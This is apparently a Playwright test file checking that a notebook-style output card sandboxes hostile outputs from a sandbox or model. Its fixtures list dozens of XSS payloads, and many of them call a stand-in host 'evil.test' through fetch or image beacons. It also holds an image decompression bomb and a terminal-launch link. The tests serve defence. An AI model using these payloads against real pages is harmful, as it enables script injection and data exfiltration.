"""Whatever a sandbox or a model sends to be shown: no script of it runs, nothing of it leaves the page, nothing of it can be used."""

from __future__ import annotations

import base64
import json
import struct
import time
import zlib
from collections.abc import Callable

import pytest
from bare import ASKED, HOME, BareCard
from playwright.sync_api import expect

from smolcell.events import Answered, Bundle, Delta, Fault, Observed, Proposed, Replied

NewCard = Callable[..., BareCard]

EVIL = "http://evil.test"
HIT = f"(parent.hit=1,top.hit=1,window.hit=1,alert(1),fetch('{EVIL}/hit'),new Image().src='{EVIL}/img')"
SCRIPT_URL = f"javascript:{HIT}"
NESTED = base64.b64encode(f"<script>{HIT}</script>".encode()).decode()

MARKUP = {
    "script": f"<script>{HIT}</script>",
    "script from elsewhere": f"<script src={EVIL}/x.js></script>",
    "module": f"<script type=module>import '{EVIL}/m.js'</script>",
    "image handler": f'<img src=x onerror="{HIT}">',
    "image from elsewhere": f"<img src={EVIL}/a.png srcset='{EVIL}/b.png 2x'>",
    "picture": f"<picture><source srcset={EVIL}/a.png><img></picture>",
    "svg handler": f'<svg onload="{HIT}"><animate onbegin="{HIT}" attributeName=x dur=1s></svg>',
    "svg script": f"<svg><script>{HIT}</script><use href={EVIL}/a.svg#x /><image href={EVIL}/a.png /></svg>",
    "details handler": f'<details open ontoggle="{HIT}">x</details>',
    "focus handler": f'<input autofocus onfocus="{HIT}">',
    "unknown element": f'<x onclick="{HIT}" style=position:fixed;inset:0>click</x>',
    "script link": f'<a href="{SCRIPT_URL}">click</a>',
    "script link with a tab": f'<a href="java\tscript:{HIT}">click</a>',
    "link": f'<a href="{EVIL}/page" target=_top ping={EVIL}/ping>click</a>',
    "link in the frame": f'<a href="{EVIL}/page">click</a>',
    "download": f'<a href="{EVIL}/file" download>click</a>',
    "area": f'<img usemap=#m src=x><map name=m><area href="{EVIL}/page" coords=0,0,9,9></map>',
    "form": f"<form action={EVIL}/post method=post><input name=a value=b><button>click</button></form>",
    "button elsewhere": f"<button formaction={EVIL}/post>click</button>",
    "refresh": f'<meta http-equiv=refresh content="0;url={EVIL}/refresh">',
    "policy": '<meta http-equiv=Content-Security-Policy content="default-src *">' + f"<img src={EVIL}/policy.png>",
    "base": f"<base href={EVIL}/><img src=relative.png>",
    "stylesheet": f"<link rel=stylesheet href={EVIL}/x.css><link rel=prefetch href={EVIL}/y><link rel=dns-prefetch href=//evil.test>",
    "style import": f"<style>@import '{EVIL}/x.css'; body{{background:url({EVIL}/bg.png)}}</style><p>x</p>",
    "style attribute": f'<p style="background:url({EVIL}/bg.png);list-style:url({EVIL}/l.png)">x</p>',
    "font": f"<style>@font-face{{font-family:f;src:url({EVIL}/f.woff)}}p{{font-family:f}}</style><p>x</p>",
    "overlay": '<div style="position:fixed;inset:0;z-index:99999;background:red">over</div>',
    "iframe": f"<iframe src={EVIL}/frame></iframe>",
    "iframe with a document": f'<iframe srcdoc="<script>{HIT}</script>"></iframe>',
    "object": f'<object data="data:text/html;base64,{NESTED}"></object><embed src="data:text/html;base64,{NESTED}">',
    "template": f"<div><template shadowrootmode=open><img src={EVIL}/shadow.png><script>{HIT}</script></template></div>",
    "nul in a tag": f"<scr\0ipt>{HIT}</scr\0ipt>",
    "comment": f'<!--><img src=x onerror="{HIT}">-->',
    "text area": f"<textarea><img title=\"</textarea><img src=x onerror='{HIT}'>\"></textarea>",
    "mutation": f'<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=x onerror={HIT}&gt;">',
    "commands": '<a href=# data-commandlinker-command="terminal:create-new">click</a>',
    "video": f"<video src={EVIL}/v.mp4 poster={EVIL}/p.png autoplay></video><audio src={EVIL}/a.mp3 autoplay></audio>",
    "manifest": f'<html manifest={EVIL}/m><body background={EVIL}/b.png onload="{HIT}"><table background={EVIL}/t.png>',
    "depth": "<div>" * 5000 + f"<img src={EVIL}/deep.png>",
}

SVG = '<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink" width="9" height="9" {}>{}</svg>'
XHTML = '<body xmlns="http://www.w3.org/1999/xhtml">'
DRAWINGS = {
    "handler": SVG.format(f'onload="{HIT}"', ""),
    "script": SVG.format("", f"<script>{HIT}</script>"),
    "link": SVG.format("", f'<a xlink:href="{EVIL}/svg"><rect width="9" height="9"/></a>'),
    "elsewhere": SVG.format("", f'<use href="{EVIL}/a.svg#x"/><rect fill="url({EVIL}/p.svg#p)"/>'),
    "markup inside": SVG.format("", f'<foreignObject>{XHTML}<img src="{EVIL}/f.png"/></body></foreignObject>'),
    "stylesheet": f'<?xml-stylesheet href="{EVIL}/s.css"?>' + SVG.format("", "<rect width='9' height='9'/>"),
    "entities": '<!DOCTYPE svg [<!ENTITY a "aaaaaaaaaa"><!ENTITY b "&a;&a;&a;">]>' + SVG.format("", "&b;"),
}

OTHERS = {
    "javascript": {"application/javascript": HIT, "text/javascript": HIT, "text/plain": "x"},
    "widget": {"application/vnd.jupyter.widget-view+json": '{"model_id":"x"}'},
    "mermaid": {"text/vnd.mermaid": f'graph LR; A-->B; click A "{SCRIPT_URL}"', "text/plain": "x"},
    "markdown": {"text/markdown": f"![x]({EVIL}/md.png) [click]({SCRIPT_URL})", "text/plain": "x"},
    "latex": {"text/latex": rf"$\href{{{SCRIPT_URL}}}{{x}} \includegraphics{{{EVIL}/l}}$"},
    "json": {"application/json": json.dumps({"__proto__": {"hit": 1}})},
    "plotly": {"application/vnd.plotly.v1+json": json.dumps({"layout": {"title": MARKUP["image handler"]}})},
    "an image that is HTML": {"image/png": NESTED},
    "an image that breaks out": {"image/png": f'x" onerror="{HIT}'},
    "an SVG that says PNG": {"image/png": base64.b64encode(DRAWINGS["script"].encode()).decode()},
    "a table": {"application/vnd.smolcell.table+json": json.dumps(
        {"columns": [MARKUP["script"]], "index": [MARKUP["image handler"]], "rows": [[MARKUP["link"]]], "numeric": [False],
         "shape": [1, 1], "gap": [0, 0]})},
}  # fmt: skip


def bundles() -> list[Bundle]:
    made = [{"text/html": markup, "text/plain": plain} for markup in MARKUP.values() for plain in ("x", "<R object>")]
    made += [{"image/svg+xml": drawing} for drawing in DRAWINGS.values()]
    return [Bundle(data=data) for data in [*made, *OTHERS.values()]]


def open_all(card: BareCard) -> None:
    card.page.evaluate("document.querySelectorAll('details').forEach(one => { one.open = true; })")
    wait_for_frames(card)
    card.page.wait_for_timeout(1000)


def wait_for_frames(card: BareCard) -> None:
    deadline = time.monotonic() + 30
    while any(frame.url == "" for frame in card.page.frames) and time.monotonic() < deadline:
        card.page.wait_for_timeout(100)  # a frame that is not there yet


def untouched(card: BareCard) -> None:
    """Nothing ran, nothing left, nothing went anywhere."""
    wait_for_frames(card)  # one may have come since
    assert card.requests == []
    assert card.page.url == HOME
    assert [frame.url for frame in card.page.frames[1:]] == ["about:srcdoc"] * (len(card.page.frames) - 1)
    assert (
        card.page.evaluate("window.hit ?? document.querySelector('.smolcell-card [onerror], .smolcell-card a')") is None
    )
    assert len(card.page.context.pages) == 1


def test_hostile_outputs_run_nothing_and_ask_for_nothing(new_card: NewCard) -> None:
    card = new_card()
    dialogs: list[str] = []
    card.page.on("dialog", lambda dialog: (dialogs.append(dialog.message), dialog.dismiss()))
    card.push(ASKED)
    hostile = bundles()
    for step, start in enumerate(range(0, len(hostile), 24), 1):
        card.ran("show()", Observed(outputs=tuple(hostile[start : start + 24])), step=step)
    open_all(card)
    assert len(card.page.frames) > len(MARKUP)
    untouched(card)
    for frame in card.page.frames[1:]:
        for word in frame.get_by_text("click").all():
            word.click(force=True, timeout=5000)
    card.page.wait_for_timeout(500)
    untouched(card)
    assert dialogs == []


def test_an_overlay_stays_in_its_frame(new_card: NewCard) -> None:
    card = new_card()
    card.push(ASKED)
    card.ran("show()", Observed(outputs=(Bundle(data={"text/html": MARKUP["overlay"]}),)))
    card.wait(Proposed(run="r", step=2, text="print(1)"))
    over = card.page.evaluate(
        """() => {
            const box = document.querySelector(".smolcell-primary").getBoundingClientRect();
            return document.elementFromPoint(box.x + box.width / 2, box.y + box.height / 2).textContent;
        }"""
    )
    assert over.startswith("Approve")


def test_hostile_words_are_words_wherever_they_come(new_card: NewCard) -> None:
    card = new_card()
    words = (
        MARKUP["script"]
        + MARKUP["image handler"]
        + MARKUP["link"]
        + f"![x]({EVIL}/t.png)\x1b]8;;{EVIL}\x07x\x1b]8;;\x07"
    )
    card.push(ASKED)
    card.stream(Delta(channel="reply", step=1, text=words), Delta(channel="reasoning", step=1, text=words))
    card.push(Replied(run="r", step=1, text=words, reasoning=words, note=words))
    error = Fault(kind="python", type=words, message=words, line=1, traceback=words)
    card.push(Proposed(run="r", step=1, text=words, thought=words))
    card.push(Observed(run="r", step=1, stdout=words, result=words, error=error, changed=(words,)))
    card.push(Answered(run="r", step=1, text=words))
    expect(card.el.locator(".smolcell-answer-text")).to_contain_text("<script>")
    card.push(Answered(run="r", step=1, text=words, is_text=True))
    open_all(card)
    untouched(card)
    expect(card.el.locator(".smolcell-answer-prose")).to_contain_text("<script>")


def test_what_a_model_s_markdown_names_is_neither_fetched_nor_followed(new_card: NewCard) -> None:
    links = f"[click]({EVIL}/a) [click]({SCRIPT_URL}) ![click]({EVIL}/i.png) <{EVIL}/auto> {EVIL}/bare [click][r]"
    words = f"# {links}\n\n- {links}\n\n| {links} |\n|---|\n| {links} |\n\n{MARKUP['image handler']}\n\n[r]: {EVIL}/r\n"
    card = new_card()
    card.push(ASKED)
    for start in range(0, len(words), 7):
        card.stream(Delta(channel="reply", step=1, text=words[start : start + 7]))
    thought = card.el.locator(".smolcell-thought")
    expect(thought.locator("h5, li, th, td")).to_have_count(4)
    expect(thought.locator("a, img, [href], [src], [style], [onerror]")).to_have_count(0)
    for word in thought.locator(".smolcell-address").all():
        word.click(force=True, timeout=5000)
    untouched(card)


def png(width: int, height: int, data: bytes) -> str:
    def chunk(name: bytes, body: bytes) -> bytes:
        return struct.pack(">I", len(body)) + name + body + struct.pack(">I", zlib.crc32(name + body))

    header = struct.pack(">IIBBBBB", width, height, 1, 0, 0, 0, 0)
    parts = chunk(b"IHDR", header) + chunk(b"IDAT", data) + chunk(b"IEND", b"")
    return base64.b64encode(b"\x89PNG\r\n\x1a\n" + parts).decode()


@pytest.mark.parametrize("inside", [False, True], ids=["by itself", "in HTML"])
def test_an_image_that_unpacks_to_billions_of_pixels_never_reaches_the_browser(new_card: NewCard, inside: bool) -> None:
    bomb, plain = png(30_000, 30_000, zlib.compress(bytes(1000))), png(8, 1, zlib.compress(b"\0\xaa"))
    card = new_card()
    card.push(ASKED)
    for step, image in enumerate((bomb, plain), 1):
        data = {"text/html": f'<img src="data:image/png;base64,{image}">x'} if inside else {"image/png": image}
        card.ran("show()", Observed(outputs=(Bundle(data=data),)), step=step)
    open_all(card)
    shown = [image.get_attribute("src") for frame in card.page.frames for image in frame.locator("img").all()]
    assert shown == [f"data:image/png;base64,{plain}"]
